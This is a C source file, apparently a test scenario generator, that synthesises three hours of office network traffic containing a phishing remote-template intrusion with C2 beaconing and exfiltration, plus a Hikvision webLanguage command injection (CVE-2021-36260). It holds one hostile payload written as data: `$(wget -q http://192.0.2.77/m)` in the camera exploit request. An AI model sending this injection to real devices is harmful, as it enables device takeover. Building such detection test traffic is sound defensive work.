@@ -1,0 +1,239 @@
+/* The incident scenario: three hours of a small office (eight hosts
+ * browsing, resolving through 192.168.20.1, NTP) with two intrusions:
+ *   - 192.168.20.31 receives a mail whose attachment is a document with a
+ *     remote template (tpl.office-updates.example), fetches that template,
+ *     then beacons over TLS to sync.office-updates.example (203.0.113.66)
+ *     every 4 minutes and at last uploads 25 MB to it;
+ *   - camera 192.168.20.50 is exploited over HTTP from 192.0.2.77 (the
+ *     Hikvision webLanguage command injection, CVE-2021-36260) and then
+ *     calls out to 198.18.7.7 every 2 minutes.
+ * tests/golden/incident/PLANTED.md lists what each part must produce. */
+#include "scenarios.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#define OFFICE_RESOLVER "192.168.20.1"
+#define VICTIM "192.168.20.31"
+#define CAMERA "192.168.20.50"
+#define MAIL_RELAY "198.51.100.25"
+#define TEMPLATE_IP "203.0.113.80"
+#define C2_IP "203.0.113.66"
+#define ATTACKER "192.0.2.77"
+#define CAMERA_C2 "198.18.7.7"
+
+struct office {
+    struct gen *g;
+    uint64_t t0;
+    uint16_t next_port;
+};
+
+struct office_site {
+    const char *host;
+    const char *ip;
+    bool tls;
+};
+
+static const struct office_site office_sites[] = {
+    {"www.wikipedia.org", "185.15.59.224", true},      {"news.example.com", "93.184.216.34", false},
+    {"www.debian.org", "151.101.2.132", true},         {"cdn.jsdelivr.net", "151.101.1.229", true},
+    {"weather.example.net", "198.51.100.14", false},  {"login.microsoftonline.com", "20.190.160.1", true},
+    {"github.com", "140.82.121.3", true},              {"www.gov.example", "198.51.100.80", true},
+};
+
+static uint16_t port_of(struct office *o)
+{
+    if (o->next_port < 40000)
+        o->next_port = 40000;
+    return o->next_port++;
+}
+
+static void tcp_between(struct office *o, struct tcp_flow *f, struct path *pa, struct ip_pair *ip, const char *src,
+                        const char *dst, uint16_t sport, uint16_t dport, uint64_t t)
+{
+    ip_pair_v4(ip, src, dst);
+    path_ethernet(pa, 0, ip);
+    tcp_flow_init(f, o->g, pa, ip, sport, dport, t);
+    tcp_handshake(f);
+}
+
+static void resolve(struct office *o, const char *client, uint64_t t, const char *name, const char *answer_ip)
+{
+    struct ip_pair dns, answer;
+    ip_pair_v4(&dns, client, OFFICE_RESOLVER);
+    ip_pair_v4(&answer, answer_ip, answer_ip);
+    struct path pa;
+    path_ethernet(&pa, 0, &dns);
+    dns_exchange(o->g, &pa, &dns, port_of(o), t, name, 1, answer.src, 4);
+}
+
+static void chat(struct tcp_flow *f, int dir, const char *text)
+{
+    tcp_send(f, dir, (const uint8_t *)text, strlen(text));
+    tcp_wait(f, MS(3) + rng_below(f->g, 8000));
+}
+
+static void browse(struct office *o, const char *client, uint64_t t)
+{
+    const struct office_site *s = &office_sites[rng_below(o->g, sizeof office_sites / sizeof office_sites[0])];
+    resolve(o, client, t, s->host, s->ip);
+    struct ip_pair ip;
+    ip_pair_v4(&ip, client, s->ip);
+    struct path pa;
+    path_ethernet(&pa, 0, &ip);
+    if (s->tls)
+        tls_session(o->g, &pa, &ip, port_of(o), t + MS(30), s->host, 3000 + rng_below(o->g, 40000));
+    else
+        http_session(o->g, &pa, &ip, port_of(o), t + MS(30), s->host, "/", 2000 + rng_below(o->g, 20000));
+}
+
+/* The attachment: a stand-in for a .docx whose settings point to a remote
+ * template; fixed bytes so its SHA-256 (listed in
+ * tests/golden/incident-feeds/feed.csv) never changes:
+ * a71b6bfc4a33ac823691d116f7849d80fe9ca6eb5a40c4ce387e56b6c9dcd279. */
+static const char attachment_base64[] =
+    "UEsDBCB2aWdpbCB0ZXN0IGRvY3VtZW50OiBzYW5jdGlvbnNfdXBkYXRlLmRvY3ggKG5vdCBhIHJl\r\n"
+    "YWwgZG9jdW1lbnQpDQp3b3JkL19yZWxzL3NldHRpbmdzLnhtbC5yZWxzOiA8UmVsYXRpb25zaGlw\r\n"
+    "IElkPSJySWQxIiBUeXBlPSJodHRwOi8vc2NoZW1hcy5vcGVueG1sZm9ybWF0cy5vcmcvb2ZmaWNl\r\n"
+    "RG9jdW1lbnQvMjAwNi9yZWxhdGlvbnNoaXBzL2F0dGFjaGVkVGVtcGxhdGUiIFRhcmdldD0iaHR0\r\n"
+    "cDovL3RwbC5vZmZpY2UtdXBkYXRlcy5leGFtcGxlL3QuZG90bSIgVGFyZ2V0TW9kZT0iRXh0ZXJu\r\n"
+    "YWwiLz4NCg==\r\n";
+
+static void phishing_mail(struct office *o, uint64_t t)
+{
+    struct tcp_flow f;
+    struct path pa;
+    struct ip_pair ip;
+    tcp_between(o, &f, &pa, &ip, MAIL_RELAY, VICTIM, 52525, 25, t);
+    chat(&f, 1, "220 ws31.corp.example ESMTP\r\n");
+    chat(&f, 0, "EHLO mail.mfa-gov.example\r\n");
+    chat(&f, 1, "250-ws31.corp.example\r\n250 8BITMIME\r\n");
+    chat(&f, 0, "MAIL FROM:<press@mfa-gov.example>\r\n");
+    chat(&f, 1, "250 2.1.0 Ok\r\n");
+    chat(&f, 0, "RCPT TO:<erin@corp.example>\r\n");
+    chat(&f, 1, "250 2.1.5 Ok\r\n");
+    chat(&f, 0, "DATA\r\n");
+    chat(&f, 1, "354 End data with <CR><LF>.<CR><LF>\r\n");
+    char body[2048];
+    int n = snprintf(body, sizeof body,
+                     "From: Press Office <press@mfa-gov.example>\r\nTo: Erin <erin@corp.example>\r\n"
+                     "Subject: Updated sanctions list\r\nDate: Mon, 4 Mar 2024 09:10:00 +0000\r\n"
+                     "Message-ID: <20240304091000.77@mfa-gov.example>\r\nMIME-Version: 1.0\r\n"
+                     "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
+                     "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+                     "Please find the updated list attached.\r\n\r\n"
+                     "--b1\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;"
+                     " name=\"sanctions_update.docx\"\r\nContent-Disposition: attachment; "
+                     "filename=\"sanctions_update.docx\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s"
+                     "--b1--\r\n.\r\n",
+                     attachment_base64);
+    tcp_send(&f, 0, (const uint8_t *)body, (size_t)n);
+    tcp_wait(&f, MS(20));
+    chat(&f, 1, "250 2.0.0 Ok: queued\r\n");
+    chat(&f, 0, "QUIT\r\n");
+    chat(&f, 1, "221 2.0.0 Bye\r\n");
+    tcp_close(&f, 0);
+}
+
+static void template_fetch(struct office *o, uint64_t t)
+{
+    resolve(o, VICTIM, t, "tpl.office-updates.example", TEMPLATE_IP);
+    struct tcp_flow f;
+    struct path pa;
+    struct ip_pair ip;
+    tcp_between(o, &f, &pa, &ip, VICTIM, TEMPLATE_IP, port_of(o), 80, t + MS(30));
+    chat(&f, 0, "GET /t.dotm HTTP/1.1\r\nHost: tpl.office-updates.example\r\n"
+                "User-Agent: Microsoft Office Word 2014\r\nAccept: */*\r\n\r\n");
+    static const char reply[] = "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.ms-word.template.macroEnabled.12\r\n"
+                                "Content-Length: 64\r\nConnection: close\r\n\r\n"
+                                "PK\003\004 vigil test template with a macro stand-in, not a real one.";
+    chat(&f, 1, reply);
+    tcp_close(&f, 1);
+}
+
+static void implant_beacon(struct office *o, uint64_t t, unsigned checkins)
+{
+    resolve(o, VICTIM, t, "sync.office-updates.example", C2_IP);
+    struct ip_pair ip;
+    ip_pair_v4(&ip, VICTIM, C2_IP);
+    struct path pa;
+    path_ethernet(&pa, 0, &ip);
+    t += MS(40);
+    for (unsigned k = 0; k < checkins; k++) {
+        tls_checkin_session(o->g, &pa, &ip, port_of(o), 443, t, "sync.office-updates.example",
+                            420 + rng_below(o->g, 8), 700 + rng_below(o->g, 16));
+        t += SEC(216) + rng_below(o->g, 48000000);
+    }
+}
+
+static void upload(struct office *o, uint64_t t, size_t bytes)
+{
+    struct tcp_flow f;
+    struct path pa;
+    struct ip_pair ip;
+    tcp_between(o, &f, &pa, &ip, VICTIM, C2_IP, port_of(o), 443, t);
+    uint8_t hello[1024];
+    size_t n = tls_client_hello(o->g, hello, "sync.office-updates.example");
+    tcp_send(&f, 0, hello, n);
+    n = tls_server_hello(o->g, hello);
+    tcp_send(&f, 1, hello, n);
+    for (size_t sent = 0; sent < bytes; sent += 65536) {
+        tcp_send_filler(&f, 0, 65536);
+        tcp_wait(&f, MS(10));
+    }
+    tcp_close(&f, 0);
+}
+
+static void camera_exploit(struct office *o, uint64_t t)
+{
+    struct tcp_flow f;
+    struct path pa;
+    struct ip_pair ip;
+    tcp_between(o, &f, &pa, &ip, ATTACKER, CAMERA, 45123, 80, t);
+    chat(&f, 0, "PUT /SDK/webLanguage HTTP/1.1\r\nHost: 192.168.20.50\r\nUser-Agent: python-requests/2.31\r\n"
+                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 67\r\n\r\n"
+                "<?xml version=\"1.0\"?><language>$(wget -q http://192.0.2.77/m)</language>");
+    chat(&f, 1, "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n");
+    tcp_close(&f, 0);
+}
+
+static void camera_calls_out(struct office *o, uint64_t t, unsigned checkins)
+{
+    struct ip_pair ip;
+    ip_pair_v4(&ip, CAMERA, CAMERA_C2);
+    struct path pa;
+    path_ethernet(&pa, 0, &ip);
+    for (unsigned k = 0; k < checkins; k++) {
+        tls_checkin_session(o->g, &pa, &ip, port_of(o), 443, t, "", 380 + rng_below(o->g, 4),
+                            520 + rng_below(o->g, 8));
+        t += SEC(114) + rng_below(o->g, 12000000);
+    }
+}
+
+bool scenario_incident(struct gen *g)
+{
+    if (add_ethernet_iface(g, 65535) != 0)
+        return false;
+    struct office o = {g, GEN_BASE_TIME_US, 40000};
+    static const char *const staff[] = {"192.168.20.21", "192.168.20.22", "192.168.20.23", "192.168.20.24",
+                                        "192.168.20.25", "192.168.20.26", "192.168.20.27", "192.168.20.28",
+                                        VICTIM};
+    const uint64_t hours = 3, end = o.t0 + SEC(hours * 3600);
+    for (size_t i = 0; i < sizeof staff / sizeof staff[0]; i++) {
+        struct ip_pair ip;
+        ip_pair_v4(&ip, staff[i], OFFICE_RESOLVER);
+        struct path pa;
+        path_ethernet(&pa, 0, &ip);
+        for (uint64_t t = o.t0 + SEC(5 + 7 * i); t < end; t += SEC(1800))
+            ntp_exchange(g, &pa, &ip, 123, t);
+        for (uint64_t t = o.t0 + SEC(20 + 11 * i); t < end; t += SEC(60) + rng_below(g, 600000000))
+            browse(&o, staff[i], t);
+    }
+    phishing_mail(&o, o.t0 + SEC(600));
+    template_fetch(&o, o.t0 + SEC(780));
+    implant_beacon(&o, o.t0 + SEC(900), 36);
+    upload(&o, o.t0 + SEC(9300), 25u << 20);
+    camera_exploit(&o, o.t0 + SEC(1800));
+    camera_calls_out(&o, o.t0 + SEC(2100), 70);
+    return true;
+}
